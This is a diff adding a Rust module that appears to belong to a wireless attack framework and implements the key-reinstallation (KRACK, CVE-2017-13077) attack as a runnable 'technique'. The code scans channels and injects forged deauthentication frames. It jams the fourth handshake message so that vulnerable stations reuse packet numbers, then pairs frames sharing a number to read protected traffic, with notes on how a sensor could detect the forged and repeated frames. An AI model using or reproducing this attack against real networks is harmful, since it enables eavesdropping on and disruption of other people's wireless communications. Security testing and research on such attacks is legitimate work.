@@ -1,0 +1,149 @@
+//! Makes stations use packet numbers twice, and reads what that gives away.
+
+use super::deauthenticate::forged;
+use super::listen_radio::{ask_networks, note};
+use super::{Params, Progress, Step, Technique};
+use crate::catalog::{Entry, Parameter, ParameterKind};
+use crate::net::port::{Input, Overheard};
+use crate::time::Duration;
+use crate::wire::dot11::{Dot11, Dot11Body};
+use crate::wire::eap::EapolKey;
+
+/// Technique `reinstall-key`.
+#[derive(Debug)]
+pub(super) struct ReinstallKey;
+
+static ENTRY: Entry = Entry {
+    id: "reinstall-key",
+    title: "Make a station install its key again",
+    summary: "Listens near an access point, makes its stations join again with a forged frame, and drowns the message with which a station ends its \
+              four-way handshake, so that the access point repeats the message before it. A station with the flaw installs its key again and uses its \
+              packet numbers a second time; two frames under one number give each other away. Succeeds when it has read a frame. A station \
+              without the flaw confirms again and goes on counting. What is under TLS stays so. A sensor could see the forged frame and the repeated message.",
+    parameters: &[
+        Parameter {
+            name: "network",
+            kind: ParameterKind::Network,
+            required: true,
+            doc: "network",
+        },
+        Parameter {
+            name: "for",
+            kind: ParameterKind::Duration,
+            required: false,
+            doc: "how long at the most; 10m if not given",
+        },
+    ],
+    references: &["CVE-2017-13077", "ICSMA-18-114-01", "T1557", "T1040"],
+};
+
+const DWELL: Duration = Duration::from_millis(50);
+/// Longer than message 4 is in the air, shorter than a station waits.
+const NOISE: Duration = Duration::from_millis(3);
+const AGAIN: Duration = Duration::from_secs(30);
+const TOKEN_LOOK: u32 = 1;
+const TOKEN_AGAIN: u32 = 2;
+const TOKEN_END: u32 = 3;
+const CHANNELS: u32 = 13;
+/// Frames kept of a station, oldest lost first.
+const KEPT: usize = 64;
+
+fn over(params: &Params) -> Duration {
+    params.duration("for").unwrap_or(Duration::from_mins(10))
+}
+
+fn look(step: &mut Step<'_, '_, '_>) -> Progress {
+    step.state.tries += 1;
+    if step.state.tries <= CHANNELS {
+        ask_networks(step, step.state.tries as u8);
+        step.hands.timer(DWELL, TOKEN_LOOK);
+        return Progress::Wait;
+    }
+    begin(step)
+}
+
+/// Settles at the strongest access point of the network and makes its stations join again.
+fn begin(step: &mut Step<'_, '_, '_>) -> Progress {
+    let ssid = step.params.text("network");
+    let strongest = step.knowledge.radio.named(ssid).max_by_key(|n| n.dbm);
+    let Some((bssid, channel)) = strongest.map(|n| (n.bssid, n.channel)) else {
+        return Progress::Failed("no such network on the air");
+    };
+    step.hands.monitor(channel);
+    step.hands.inject(forged(bssid));
+    step.hands.timer(AGAIN, TOKEN_AGAIN);
+    Progress::Reached(1)
+}
+
+fn heard(step: &mut Step<'_, '_, '_>, heard: &Overheard) -> Progress {
+    note(step, heard);
+    let frame = &heard.frame;
+    match &frame.body {
+        Dot11Body::EapolKey(EapolKey::M1 { .. }) => {
+            // A new handshake gives new keys: what was kept of the station is of no more use.
+            step.knowledge.frames.retain(|f| f.ta != frame.ra);
+            step.knowledge.spoiled.retain(|s| *s != frame.ra);
+            Progress::Wait
+        }
+        Dot11Body::EapolKey(EapolKey::M3 { .. }) if !step.knowledge.spoiled.contains(&frame.ra) => {
+            step.knowledge.spoiled.push(frame.ra);
+            step.hands.noise(Some(heard.channel), NOISE);
+            Progress::Reached(2)
+        }
+        Dot11Body::Pairwise { number, .. } if step.knowledge.spoiled.contains(&frame.ta) => {
+            let number = *number;
+            let same = |f: &&Dot11| {
+                f.ta == frame.ta
+                    && matches!(f.body, Dot11Body::Pairwise { number: n, .. } if n == number)
+            };
+            let twin = step.knowledge.frames.iter().find(same).cloned();
+            let Some(twin) = twin else {
+                if step.knowledge.frames.len() == KEPT {
+                    step.knowledge.frames.remove(0);
+                }
+                step.knowledge.frames.push(frame.clone());
+                return Progress::Wait;
+            };
+            if step.hands.read_by_reuse(frame, &twin).is_none() {
+                return Progress::Wait;
+            }
+            step.hands
+                .learned("a frame under a packet number used twice");
+            step.hands.stop_monitoring();
+            Progress::Done("read a protected frame")
+        }
+        _ => Progress::Wait,
+    }
+}
+
+impl Technique for ReinstallKey {
+    fn entry(&self) -> &'static Entry {
+        &ENTRY
+    }
+
+    fn stages(&self) -> &'static [&'static str] {
+        &["look", "listen", "message 4 drowned", "frame read"]
+    }
+
+    fn patience(&self, params: &Params) -> Duration {
+        over(params) + Duration::from_mins(1)
+    }
+
+    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
+        match input {
+            Input::Begin => {
+                let over = over(step.params);
+                step.hands.timer(over, TOKEN_END);
+                look(step)
+            }
+            Input::Timer(TOKEN_LOOK) => look(step),
+            Input::Timer(TOKEN_AGAIN) => begin(step),
+            Input::Timer(TOKEN_END) => {
+                step.hands.stop_monitoring();
+                Progress::Failed("no packet number came twice")
+            }
+            Input::Overheard(frame) => heard(step, frame),
+            _ => Progress::Wait,
+        }
+    }
+}
